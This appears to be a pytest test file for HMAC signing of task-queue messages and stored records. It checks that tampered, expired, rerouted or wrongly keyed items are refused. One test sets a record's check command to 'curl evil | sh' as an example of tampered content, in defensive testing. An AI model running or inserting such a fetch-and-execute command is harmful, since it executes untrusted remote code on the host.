"""The HMACs of signing, on their own: what a task message's signature binds, and what a record's does."""

from __future__ import annotations

import json

import pytest

from coordination.errors import ConfigurationError
from swarm_tasks.errors import MessageSignatureError, RecordSignatureError
from swarm_tasks.signing import SIGNATURE_HEADER, MessageSigner, RecordSigner, sign

KEY = "test-signing-key-0123456789"
BODY = json.dumps([["run-1", "agent-1", 3], {}, {"callbacks": None}])
NOW = 1_800_000_000.0


def message(signer: MessageSigner, *, task: str = "swarm.agent.step", task_id: str = "id-1", queue: str = "work",
            eta: str | None = None) -> tuple[dict[str, object], str]:
    headers: dict[str, object] = {"task": task, "id": task_id, "eta": eta}
    headers[SIGNATURE_HEADER] = signer.seal(task=task, task_id=task_id, queue=queue, body=BODY, eta=eta, now=NOW)
    return headers, sign(BODY, KEY)


def check(signer: MessageSigner, headers: dict[str, object], raw: str, *, queues: tuple[str, ...] = ("work",),
          routing_key: str | None = "work", now: float = NOW + 1) -> str:
    return signer.check(headers, raw, queues=set(queues), routing_key=routing_key, now=now)


def test_a_sealed_message_passes_where_and_while_it_was_meant_to() -> None:
    signer = MessageSigner.of(KEY, ttl_s=3600)
    headers, raw = message(signer)
    assert check(signer, headers, raw) == "id-1"
    assert check(signer, headers, raw, queues=("work", "plan")) == "id-1"
    later, _ = message(signer, eta="2027-02-01T08:00:00+00:00")  # a countdown moves the expiry with it
    assert later[SIGNATURE_HEADER]["exp"] > NOW + 3600  # type: ignore[index]


@pytest.mark.parametrize(("change", "why"), [
    ({"task": "swarm.run.idle"}, "does not match"),  # renamed
    ({"id": "id-2"}, "does not match"),  # re-sent under another id
    ({SIGNATURE_HEADER: None}, "no signature header"),
    ({"task": None}, "names no task"),
])
def test_a_renamed_or_unsigned_message_is_refused(change: dict[str, object], why: str) -> None:
    signer = MessageSigner.of(KEY)
    headers, raw = message(signer)
    with pytest.raises(MessageSignatureError, match=why):
        check(signer, {**headers, **change}, raw)


def test_a_message_elsewhere_later_or_changed_is_refused() -> None:
    signer = MessageSigner.of(KEY, ttl_s=60)
    headers, raw = message(signer)
    with pytest.raises(MessageSignatureError, match="signed for queue 'work'"):
        check(signer, headers, raw, queues=("control",), routing_key="control")
    with pytest.raises(MessageSignatureError, match="signed for queue 'work'"):
        check(signer, headers, raw, queues=("work", "control"), routing_key="control")
    with pytest.raises(MessageSignatureError, match="expired"):
        check(signer, headers, raw, now=NOW + 61)
    forged = dict(headers[SIGNATURE_HEADER])  # type: ignore[arg-type]
    forged["exp"] = NOW + 10**6  # a longer life needs a new MAC
    with pytest.raises(MessageSignatureError, match="does not match"):
        check(signer, {**headers, SIGNATURE_HEADER: forged}, raw)
    other_body = sign(BODY.replace("agent-1", "agent-2"), KEY)
    with pytest.raises(MessageSignatureError, match="does not match"):
        check(signer, headers, other_body)
    with pytest.raises(MessageSignatureError, match="does not match"):
        check(MessageSigner.of(KEY + "-other"), headers, raw)


def test_records_are_bound_to_their_kind_id_and_content() -> None:
    signer = RecordSigner(KEY)
    spec = {"repo": "/srv/app.git", "check": "pytest -q", "codemod": None}
    signature = signer.sign("run", "build-1", spec)
    signer.verify("run", "build-1", dict(reversed(list(spec.items()))), signature)  # key order does not matter
    for kind, ident, content in (("run", "build-1", {**spec, "check": "curl evil | sh"}),
                                 ("run", "build-2", spec), ("agent spec", "build-1", spec)):
        with pytest.raises(RecordSignatureError, match="does not match its signature"):
            signer.verify(kind, ident, content, signature)
    with pytest.raises(RecordSignatureError, match="is not signed"):
        signer.verify("run", "build-1", spec, None)
    with pytest.raises(RecordSignatureError, match="does not match"):
        RecordSigner(KEY + "-other").verify("run", "build-1", spec, signature)
    assert RecordSigner.from_settings(object()) is None
    with pytest.raises(ConfigurationError, match="too short"):
        RecordSigner("short")
